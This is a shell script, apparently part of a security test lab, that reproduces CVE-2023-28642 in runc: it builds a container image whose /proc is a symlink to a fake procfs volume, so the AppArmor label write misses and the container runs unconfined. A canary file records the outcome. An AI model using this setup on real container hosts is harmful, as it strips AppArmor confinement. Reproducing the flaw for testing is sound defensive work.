#!/bin/sh
# CVE-2023-28642: the image's /proc is a symlink to /fakeproc and the config has a volume (a fake
# procfs tree) at /fakeproc: procfs lands on /fakeproc under the volume, the runtime's AppArmor label
# write lands in a plain file and the container runs unconfined. The canary: a marker in
# /sys/kernel/security (bind of $BW_WORK/canary), which any applied container profile denies.
# See README.md.
set -u
. "$BW_LAB/common/lib.sh"

ID=runc-proc-symlink-apparmor-bypass
W=$BW_WORK

# A user-namespaced container root (BW_USERNS) must be able to reach its rootfs under $W, as it can
# reach /var/lib/docker/<uid>.<gid>/ with userns-remap: search permission only, no listing.
chmod 711 "$W" || exit 2
bw_make_rootfs "$W/rootfs" "$BW_BIN/$ID.attack" || exit 2
# The image: /proc is a symlink to /fakeproc.
rmdir "$W/rootfs/proc" && ln -s /fakeproc "$W/rootfs/proc" && mkdir "$W/rootfs/fakeproc" || exit 2

# The volume at /fakeproc: the files the runtime writes, as the engine copies them from the image.
V=$W/volume
mkdir -p "$V/self/attr/apparmor" "$V/self/fd" || exit 2
for f in self/status self/attr/current self/attr/exec self/attr/prev self/attr/apparmor/current \
  self/attr/apparmor/exec self/attr/apparmor/prev; do
  : >"$V/$f" || exit 2
done

# Writable to any container root (also a user-namespaced one): the canary measures AppArmor, not DAC.
mkdir -p "$W/canary" && chmod 777 "$W/canary" || exit 2

FLAGS=
bw_setting verify-procfs && FLAGS=--verify-procfs

# The manager bounds its own wait for the container (10 s, then SIGKILL).
bw_confined "${BW_MGMT_PROFILE:-}" "$BW_BIN/$ID.manager" $FLAGS "$W/rootfs" "$V" /fakeproc "$W/canary"
RC=$?
[ $RC -eq 0 ] || echo "run.sh: manager exited with $RC" >&2

if [ -e "$W/canary/bw-marker" ]; then
  bw_canary reached "the container wrote /sys/kernel/security/bw-marker (denied by any applied container profile): it ran unconfined"
else
  bw_canary safe "no marker in $W/canary (bound at the container's /sys/kernel/security)"
fi
[ $RC -eq 0 ] || exit 1
exit 0
